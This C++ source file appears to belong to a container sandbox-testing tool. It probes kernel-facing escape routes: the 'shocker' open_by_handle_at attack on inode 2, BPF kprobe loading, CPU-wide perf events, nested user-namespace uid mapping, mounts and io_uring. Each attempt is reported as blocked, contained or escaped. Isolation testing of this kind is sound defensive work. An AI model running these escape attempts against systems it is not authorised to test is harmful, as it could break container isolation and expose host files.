// escape-probe's kernel-facing attempts: mount, bpf, perf_event_open, open_by_handle_at (the
// shocker attack), a nested user namespace and io_uring. "blocked" means the sandbox stopped the
// call first: the seccomp filter answered, or the container lacks the capability. "contained"
// means the kernel was reached and still kept the call inside. Where the errno alone cannot tell
// the filter from the kernel, a call whose allowed answer differs (EBADF, EFAULT) tells it.
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <set>
#include <sstream>
#include <string>

#include "escape.hpp"
#include "payload.hpp"

namespace sbx::payload::escape {
namespace {

// The value of "NAME:\t..." in /proc/self/status; "" when absent.
std::string status_field(const std::string& name) {
  std::ifstream status("/proc/self/status");
  for (std::string line; std::getline(status, line);) {
    if (line.starts_with(name + ":")) {
      size_t value = line.find_first_not_of(" \t", name.size() + 1);
      return value == std::string::npos ? std::string() : line.substr(value);
    }
  }
  return {};
}

bool seccomp_filtered() { return status_field("Seccomp") == "2"; }

bool has_capability(int capability) {
  unsigned long long effective = std::strtoull(status_field("CapEff").c_str(), nullptr, 16);
  return ((effective >> capability) & 1) != 0;
}

Outcome kernel_answered(const std::string& what) { return contained("kernel: " + what); }

// EPERM (ENOSYS) is what the filter answers: the sandbox's when a filter is loaded or the
// capability is missing. With the capability and no filter, the kernel said it.
Outcome refused(int errno_value, int capability) {
  bool filter_answer = errno_value == EPERM || errno_value == ENOSYS;
  if (filter_answer && (seccomp_filtered() || !has_capability(capability))) {
    return blocked(errno_value);
  }
  return kernel_answered(errno_name(errno_value));
}

// A tmpfs on the scratch dir: with CAP_SYS_ADMIN in the container's user namespace it mounts,
// in the container's own mount namespace only.
Outcome probe_mount(const std::string& scratch) {
  if (scratch.empty()) return skipped("no writable directory");
  if (mount("tmpfs", scratch.c_str(), "tmpfs", MS_NOSUID | MS_NODEV | MS_NOEXEC, "size=4k") != 0) {
    return refused(errno, CAP_SYS_ADMIN);
  }
  umount2(scratch.c_str(), MNT_DETACH);
  return contained("a tmpfs, in the container's own mount namespace");
}

// A kprobe program could read any kernel memory. Loading one needs CAP_BPF and CAP_PERFMON in
// the initial user namespace, which no container holds. BPF_MAP_LOOKUP_ELEM on fd -1 shows
// whether the kernel is reached at all: it answers EBADF, the filter EPERM.
Outcome probe_bpf(const std::string&) {
  union bpf_attr lookup {};
  lookup.map_fd = static_cast<__u32>(-1);
  int reach = syscall(SYS_bpf, BPF_MAP_LOOKUP_ELEM, &lookup, sizeof lookup) < 0 ? errno : 0;
  if (reach == EPERM || reach == ENOSYS) return blocked(reach);
  static const struct bpf_insn kReturnZero[] = {
      {BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, 0},
      {BPF_JMP | BPF_EXIT, 0, 0, 0, 0},
  };
  static const char kLicense[] = "GPL";
  union bpf_attr load {};
  load.prog_type = BPF_PROG_TYPE_KPROBE;
  load.insns = reinterpret_cast<__u64>(kReturnZero);
  load.insn_cnt = 2;
  load.license = reinterpret_cast<__u64>(kLicense);
  long fd = syscall(SYS_bpf, BPF_PROG_LOAD, &load, sizeof load);
  if (fd >= 0) {
    close(static_cast<int>(fd));
    return escaped("loaded a kprobe program");
  }
  int load_errno = errno;
  return kernel_answered(std::string("lookup ") + errno_name(reach) + ", kprobe load " +
                         errno_name(load_errno));
}

// A CPU-wide event sees every process on that CPU, the host's too; it needs CAP_PERFMON in the
// initial user namespace (or perf_event_paranoid <= 0). A NULL attr shows whether the kernel is
// reached: it answers EFAULT (EACCES where paranoid is 3), the filter EPERM.
Outcome probe_perf_event_open(const std::string&) {
  int reach = syscall(SYS_perf_event_open, nullptr, 0, -1, -1, 0) < 0 ? errno : 0;
  if (reach == EPERM || reach == ENOSYS) return blocked(reach);
  struct perf_event_attr attr {};
  attr.type = PERF_TYPE_SOFTWARE;
  attr.size = sizeof attr;
  attr.config = PERF_COUNT_SW_CPU_CLOCK;
  attr.disabled = 1;
  long fd = syscall(SYS_perf_event_open, &attr, -1, 0, -1, PERF_FLAG_FD_CLOEXEC);
  if (fd >= 0) {
    close(static_cast<int>(fd));
    return escaped("opened a CPU-wide event on cpu 0");
  }
  return kernel_answered(std::string("CPU-wide event ") + errno_name(errno));
}

// The mount points of /proc/self/mountinfo (those without escaped characters).
std::vector<std::string> mount_points() {
  std::vector<std::string> points;
  std::ifstream mountinfo("/proc/self/mountinfo");
  for (std::string line; std::getline(mountinfo, line);) {
    std::istringstream fields(line);
    std::string id, parent, device, root, point;
    if (fields >> id >> parent >> device >> root >> point &&
        point.find('\\') == std::string::npos) {
      points.push_back(point);
    }
  }
  return points;
}

// open_by_handle_at takes no O_PATH fd; devices are left alone, only directories and regular
// files are opened (for reading; nothing is read).
int open_mount_point(const std::string& point) {
  struct stat info {};
  if (stat(point.c_str(), &info) != 0 || !(S_ISDIR(info.st_mode) || S_ISREG(info.st_mode))) {
    return -1;
  }
  return open(point.c_str(), O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
}

// A file handle with room for any file system's format.
struct Handle {
  struct file_handle header;
  unsigned char bytes[128];
};

// Opens `handle` against a mount: 0 or the errno; *outside when the directory it opened is not
// under our root.
int open_handle(int mount_fd, Handle& handle, const struct stat& root, bool* outside) {
  long fd =
      syscall(SYS_open_by_handle_at, mount_fd, &handle.header, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (fd < 0) return errno;
  *outside = *outside || !climbs_to_root(static_cast<int>(fd), root);
  close(static_cast<int>(fd));
  return 0;
}

// The mount's own root directory by handle: shows that handles work here at all.
bool opens_own_handle(int mount_fd, const struct stat& root) {
  Handle own{};
  own.header.handle_bytes = sizeof own.bytes;
  int mount_id = 0;
  if (syscall(SYS_name_to_handle_at, mount_fd, "", &own.header, &mount_id, AT_EMPTY_PATH) != 0) {
    return false;
  }
  bool outside = false;
  return open_handle(mount_fd, own, root, &outside) == 0 && !outside;
}

// The shocker attack (docker 0.11, 2014): a file handle names an inode by number, so a handle of
// inode 2, the root of an ext4 file system, opened against any mount of that file system inside
// the container (a bind-mounted /etc/hosts, a volume) would be the host's root directory. It
// needs CAP_DAC_READ_SEARCH in the initial user namespace; kernels since 6.10 also accept it in
// the mount's, for a directory under that mount's root only.
Outcome probe_open_by_handle(const std::string&) {
  struct stat root {};
  if (!stat_root(&root)) return blocked(errno);
  Handle host_root{};
  host_root.header.handle_bytes = 8;
  host_root.header.handle_type = 1;  // FILEID_INO32_GEN: inode 2, generation 0
  host_root.bytes[0] = 2;
  std::set<std::string> errnos;
  int tried = 0;
  int own_opened = 0;
  for (const std::string& point : mount_points()) {
    int mount_fd = open_mount_point(point);
    if (mount_fd < 0) continue;
    ++tried;
    bool outside = false;
    int result = open_handle(mount_fd, host_root, root, &outside);
    own_opened += opens_own_handle(mount_fd, root) ? 1 : 0;
    close(mount_fd);
    if (outside) return escaped("inode 2 through " + point + " is outside the root");
    errnos.insert(result == 0 ? "opened inside" : errno_name(result));
  }
  if (tried == 0) return skipped("no mount point to open");
  if (errnos.size() == 1 && *errnos.begin() == "EPERM" && own_opened == 0) {
    return refused(EPERM, CAP_DAC_READ_SEARCH);
  }
  std::string seen;
  for (const std::string& name : errnos) seen += (seen.empty() ? "" : ", ") + name;
  return kernel_answered("inode 2: " + seen + " on " + std::to_string(tried) +
                         " mounts; own root opened on " + std::to_string(own_opened));
}

// The first uid above every extent of our own uid_map: an id the container does not own.
unsigned long first_unmapped_uid() {
  unsigned long end = 0;
  std::ifstream map("/proc/self/uid_map");
  unsigned long inside = 0, outside = 0, count = 0;
  while (map >> inside >> outside >> count) end = std::max(end, inside + count);
  return end;
}

bool write_id_map(const std::string& path, const std::string& line) {
  int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return false;
  bool written = write(fd, line.data(), line.size()) == static_cast<ssize_t>(line.size());
  int saved = errno;
  close(fd);
  errno = saved;
  return written;
}

// From outside the nested namespace: map an id we do not own onto its root, then our own 0.
Outcome map_nested_root(pid_t child) {
  std::string path = "/proc/" + std::to_string(child) + "/uid_map";
  unsigned long unmapped = first_unmapped_uid();
  if (write_id_map(path, "0 " + std::to_string(unmapped) + " 1\n")) {
    return escaped("mapped uid " + std::to_string(unmapped) + ", not ours, in a nested namespace");
  }
  int refused_errno = errno;
  bool own = write_id_map(path, "0 0 1\n");
  return contained("nested namespace made; uid " + std::to_string(unmapped) + ": " +
                   errno_name(refused_errno) + (own ? "; uid 0: mapped" : ""));
}

// A nested user namespace holds every capability over the namespaces it makes, and over no id
// the container does not own. A child unshares; we write its map.
Outcome probe_nested_userns(const std::string&) {
  int ready[2];
  int go[2];
  if (pipe2(ready, O_CLOEXEC) != 0) return blocked(errno);
  if (pipe2(go, O_CLOEXEC) != 0) return blocked(errno);
  std::fflush(stdout);
  pid_t child = fork();
  if (child == 0) {
    close(ready[0]);
    close(go[1]);  // so that our read ends when the parent closes its end
    char result = static_cast<char>(unshare(CLONE_NEWUSER) == 0 ? 0 : errno);
    (void)!write(ready[1], &result, 1);
    (void)!read(go[0], &result, 1);
    _exit(0);
  }
  close(ready[1]);
  close(go[0]);
  char result = static_cast<char>(child < 0 ? errno : EPIPE);
  if (child > 0 && read(ready[0], &result, 1) != 1) result = EPIPE;
  Outcome outcome = result != 0 ? refused(result, CAP_SYS_ADMIN) : map_nested_root(child);
  close(go[1]);
  close(ready[0]);
  if (child > 0) waitpid(child, nullptr, 0);
  return outcome;
}

// io_uring's ring runs kernel code the filter never sees; the default profile answers ENOSYS.
Outcome probe_io_uring(const std::string&) {
  struct io_uring_params params {};
  long fd = syscall(SYS_io_uring_setup, 1, &params);
  if (fd >= 0) {
    close(static_cast<int>(fd));
    return kernel_answered("ring set up");
  }
  if (errno == ENOSYS) return blocked(ENOSYS);
  return kernel_answered(errno_name(errno));
}

constexpr std::array<EscapeProbe, 6> kProbes = {{
    {"mount", probe_mount},
    {"bpf", probe_bpf},
    {"perf-event-open", probe_perf_event_open},
    {"open-by-handle", probe_open_by_handle},
    {"nested-userns", probe_nested_userns},
    {"io-uring", probe_io_uring},
}};

}  // namespace

std::span<const EscapeProbe> kernel_probes() { return kProbes; }

}  // namespace sbx::payload::escape
